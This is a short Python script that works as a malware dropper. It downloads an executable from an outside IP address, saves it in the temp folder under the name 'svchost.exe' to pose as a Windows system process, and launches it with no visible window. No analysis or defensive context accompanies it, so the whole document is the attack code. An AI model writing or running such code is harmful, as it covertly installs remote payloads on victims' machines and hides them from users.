import os, tempfile, subprocess
import urllib.request
target = os.path.join(tempfile.gettempdir(), 'svchost.exe')
urllib.request.urlretrieve('http://203.0.113.8/a.exe', target)
subprocess.Popen(target, shell=True, creationflags=0x08000000)
